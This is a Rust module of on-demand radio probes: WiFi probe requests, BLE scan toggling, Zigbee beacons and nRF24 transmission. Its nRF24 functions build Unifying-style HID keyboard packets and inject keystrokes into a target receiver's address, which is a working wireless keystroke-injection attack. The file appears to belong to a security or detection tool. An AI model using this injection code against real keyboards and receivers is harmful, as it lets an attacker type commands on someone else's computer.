/// Active probes: transmissions the companion asks for on demand.
///
/// Every probe needs the external radio. The link must be connected and
/// must advertise the capability the probe relies on; otherwise the call
/// fails with [`ProbeError`] before anything is written. BLE active scan is
/// the one probe with an internal fallback.
use std::thread;
use std::time::Duration;

use crate::error::ProbeError;
use crate::frame::Command;
use crate::link::LinkManager;
use crate::radio::Capability;
use crate::scanner::ScanKind;
use crate::scheduler::DetectionScheduler;

/// Longest SSID a probe request can carry.
pub const MAX_PROBE_SSID: usize = 32;

/// IEEE 802.15.4 channels in the 2.4 GHz band.
pub const ZIGBEE_CHANNELS: core::ops::RangeInclusive<u8> = 11..=26;

/// Zigbee channel value asking the radio to hop across all channels.
pub const ZIGBEE_HOP: u8 = 0;

pub const NRF24_ADDRESS_LEN: usize = 5;
pub const NRF24_MAX_CHANNEL: u8 = 125;
pub const NRF24_MAX_PAYLOAD: usize = 32;

/// Channel used for keystroke injection.
pub const NRF24_INJECT_CHANNEL: u8 = 5;

/// Size of one unifying-style HID packet, checksum included.
pub const NRF24_HID_PACKET_LEN: usize = 22;

pub const MAX_KEYSTROKES: usize = 64;

/// Which radio serviced a BLE active-scan request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BleScanPath {
    External,
    Internal,
}

fn require(link: &LinkManager, caps: &[Capability]) -> Result<(), ProbeError> {
    if !link.is_connected() {
        return Err(ProbeError::HardwareUnavailable("external radio not connected"));
    }
    match caps.iter().find(|&&c| link.has_capability(c)) {
        Some(_) => Ok(()),
        None => Err(ProbeError::MissingCapability(caps[0])),
    }
}

/// Transmit a directed probe request for `ssid`. Payload: `[len][ssid]`.
pub fn wifi_probe(link: &LinkManager, ssid: &str) -> Result<(), ProbeError> {
    if ssid.len() > MAX_PROBE_SSID {
        return Err(ProbeError::InvalidParameter("ssid longer than 32 bytes"));
    }
    require(link, &[Capability::WifiInject, Capability::WifiScan])?;

    let mut payload = Vec::with_capacity(1 + ssid.len());
    payload.push(ssid.len() as u8);
    payload.extend_from_slice(ssid.as_bytes());
    link.send_async(Command::WifiProbe, &payload)?;
    log::info!("WiFi probe TX: ssid '{}'", ssid);
    Ok(())
}

/// Switch BLE active scanning on or off.
///
/// The external radio handles it when it can scan BLE. Otherwise the
/// internal passive scanner is resumed or paused instead.
pub fn ble_active_scan(
    link: Option<&LinkManager>,
    scheduler: &DetectionScheduler,
    active: bool,
) -> Result<BleScanPath, ProbeError> {
    if let Some(link) = link {
        if link.is_connected() && link.has_capability(Capability::BleScan) {
            let command = if active {
                Command::BleScanStart
            } else {
                Command::BleScanStop
            };
            link.send_async(command, &[])?;
            log::info!("BLE active scan {} on external radio", if active { "on" } else { "off" });
            return Ok(BleScanPath::External);
        }
    }

    let toggled = if active {
        scheduler.resume(ScanKind::Ble)
    } else {
        scheduler.pause(ScanKind::Ble)
    };
    toggled.map_err(|e| {
        log::warn!("BLE scan fallback failed: {}", e);
        ProbeError::HardwareUnavailable("internal BLE scanner busy")
    })?;
    log::info!("BLE scan {} on internal radio", if active { "resumed" } else { "paused" });
    Ok(BleScanPath::Internal)
}

/// Send a Zigbee beacon request on `channel` (11-26, or 0 to hop).
pub fn zigbee_beacon(link: &LinkManager, channel: u8) -> Result<(), ProbeError> {
    if channel != ZIGBEE_HOP && !ZIGBEE_CHANNELS.contains(&channel) {
        return Err(ProbeError::InvalidParameter("zigbee channel must be 11-26 or 0"));
    }
    require(link, &[Capability::Zigbee])?;
    link.send_async(Command::ZigbeeBeacon, &[channel])?;
    log::info!("Zigbee beacon TX: channel {}", channel);
    Ok(())
}

/// Point the nRF24 at `channel` and a 5-byte pipe address.
/// Payload: `[channel][address; 5]`.
pub fn nrf24_config(
    link: &LinkManager,
    channel: u8,
    address: &[u8; NRF24_ADDRESS_LEN],
) -> Result<(), ProbeError> {
    if channel > NRF24_MAX_CHANNEL {
        return Err(ProbeError::InvalidParameter("nrf24 channel must be 0-125"));
    }
    require(link, &[Capability::Nrf24Inject])?;
    let mut payload = [0u8; 1 + NRF24_ADDRESS_LEN];
    payload[0] = channel;
    payload[1..].copy_from_slice(address);
    link.send_async(Command::Nrf24Config, &payload)?;
    log::debug!("nRF24 configured: channel {}", channel);
    Ok(())
}

/// Transmit one raw nRF24 packet on the configured pipe.
pub fn nrf24_tx(link: &LinkManager, packet: &[u8]) -> Result<(), ProbeError> {
    if packet.is_empty() || packet.len() > NRF24_MAX_PAYLOAD {
        return Err(ProbeError::InvalidParameter("nrf24 packet must be 1-32 bytes"));
    }
    require(link, &[Capability::Nrf24Inject])?;
    link.send_async(Command::Nrf24Tx, packet)?;
    Ok(())
}

/// HID keyboard packet carrying `keycode` (0 releases all keys). The last
/// byte is the XOR of the preceding ones.
pub fn hid_packet(keycode: u8) -> [u8; NRF24_HID_PACKET_LEN] {
    let mut packet = [0u8; NRF24_HID_PACKET_LEN];
    packet[1] = 0xC1;
    packet[6] = keycode;
    let checksum = packet[..NRF24_HID_PACKET_LEN - 1]
        .iter()
        .fold(0u8, |acc, b| acc ^ b);
    packet[NRF24_HID_PACKET_LEN - 1] = checksum;
    packet
}

/// Inject HID keystrokes at `address`: a key-down then key-up packet per
/// keycode, `key_gap` apart. Returns the number of keystrokes sent.
///
/// A failed key packet is logged and skipped; a failed configuration aborts.
pub fn nrf24_inject(
    link: &LinkManager,
    address: &[u8; NRF24_ADDRESS_LEN],
    keycodes: &[u8],
    key_gap: Duration,
) -> Result<usize, ProbeError> {
    if keycodes.is_empty() || keycodes.len() > MAX_KEYSTROKES {
        return Err(ProbeError::InvalidParameter("keystroke count must be 1-64"));
    }
    nrf24_config(link, NRF24_INJECT_CHANNEL, address)?;

    let mut sent = 0;
    for &key in keycodes {
        if let Err(e) = nrf24_tx(link, &hid_packet(key)) {
            log::warn!("nRF24: key 0x{:02X} not sent: {}", key, e);
            continue;
        }
        if let Err(e) = nrf24_tx(link, &hid_packet(0)) {
            log::warn!("nRF24: key release not sent: {}", e);
        }
        sent += 1;
        if !key_gap.is_zero() {
            thread::sleep(key_gap);
        }
    }
    log::info!("nRF24 inject complete: {}/{} keystrokes", sent, keycodes.len());
    Ok(sent)
}

/// Report a failed probe to the companion through the scheduler's reporter.
pub fn report_failure(scheduler: &DetectionScheduler, err: &ProbeError) {
    log::warn!("Probe failed: {}", err);
    scheduler.publish_error(err.code(), &err.to_string());
}
